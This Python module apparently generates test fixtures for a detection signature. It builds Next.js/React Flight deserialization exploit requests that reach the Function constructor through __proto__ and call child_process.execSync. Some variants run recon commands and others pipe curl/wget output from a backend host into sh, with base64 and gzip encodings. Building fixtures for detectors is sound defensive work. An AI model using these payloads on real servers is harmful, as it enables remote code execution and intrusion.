"""Synthetic first-flight payloads.

Exploit bodies follow the thenable pattern: a Flight reference walks
``__proto__`` to ``constructor:constructor`` (the Function constructor) and
places it under ``then``, so awaiting the decoded object would run the
``_prefix`` source. These are fabricated fixtures shaped for the signature,
not captured traffic.
"""

from __future__ import annotations

import base64
import gzip
import json
import random

EXPLOIT_KINDS = ("exploit_plain", "exploit_base64", "exploit_gzip_base64")
BENIGN_KINDS = ("benign_flight", "benign_http", "pollution_only")
PAYLOAD_KINDS = EXPLOIT_KINDS + BENIGN_KINDS

_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/8.5.0",
)
_PATHS = ("/", "/api", "/login", "/_next/data", "/app", "/dashboard")
_COMMANDS = ("id", "uname -a", "whoami", "cat /etc/hostname", "echo ok")


def _http(method: str, path: str, rng: random.Random, body: bytes = b"", extra: tuple[str, ...] = ()) -> bytes:
    lines = [
        f"{method} {path} HTTP/1.1",
        "Host: target",
        f"User-Agent: {rng.choice(_AGENTS)}",
        "Accept: */*",
        *extra,
    ]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("ascii") + body


def exploit_body(backend: tuple[str, int] | None, seed: int) -> bytes:
    rng = random.Random(seed)
    if backend is not None:
        ip, port = backend
        url = f"http://{ip}:{port}/{rng.choice(('x.sh', 'k.sh', 'init', 'b'))}"
        source = f"process.mainModule.require('child_process').execSync('(curl -s {url}||wget -qO- {url})|sh');"
    else:
        source = f"process.mainModule.require('child_process').execSync('{rng.choice(_COMMANDS)}');"
    chunk = {
        "then": "$1:__proto__:constructor:constructor",
        "status": "resolved_model",
        "reason": -1,
        "value": '{"then":"$B0"}',
        "_response": {"_prefix": source, "_chunks": "$Q2"},
    }
    return json.dumps(chunk, separators=(",", ":")).encode("ascii")


def _action_header(rng: random.Random) -> str:
    return f"Next-Action: {rng.getrandbits(160):040x}"


def exploit_payload(kind: str, backend: tuple[str, int] | None = None, seed: int = 0) -> bytes:
    """HTTP POST carrying an exploit chunk, wrapped according to ``kind``."""
    if kind not in EXPLOIT_KINDS:
        raise ValueError(f"{kind!r} is not an exploit payload kind")
    plain = exploit_body(backend, seed)
    if kind == "exploit_plain":
        body = plain
    elif kind == "exploit_base64":
        body = base64.b64encode(plain)
    else:
        body = base64.b64encode(gzip.compress(plain, mtime=0))
    rng = random.Random(seed ^ 0x5A5A)
    return _http(
        "POST", rng.choice(_PATHS), rng, body,
        (_action_header(rng), "Content-Type: text/plain;charset=UTF-8"),
    )


def benign_payload(kind: str, seed: int = 0) -> bytes:
    if kind not in BENIGN_KINDS:
        raise ValueError(f"{kind!r} is not a benign payload kind")
    rng = random.Random(seed)
    if kind == "benign_http":
        return _http("GET", rng.choice(_PATHS), rng)
    if kind == "benign_flight":
        start = rng.randrange(100)
        body = (
            f'0:["$","div",null,{{"children":"$1:props:title"}}]\n'
            f'1:{{"name":"Counter","props":{{"start":{start},"title":"Count"}}}}\n'
        ).encode("ascii")
        return _http("POST", rng.choice(_PATHS), rng, body, (_action_header(rng), "Content-Type: text/x-component"))
    body = json.dumps(
        {"__proto__": {"isAdmin": True}, "q": "x.constructor.constructor('return process')()"},
        separators=(",", ":"),
    ).encode("ascii")
    return _http("POST", rng.choice(_PATHS), rng, body, ("Content-Type: application/json",))


def payload_for(kind: str, backend: tuple[str, int] | None, seed: int) -> bytes:
    if kind in EXPLOIT_KINDS:
        return exploit_payload(kind, backend, seed)
    return benign_payload(kind, seed)
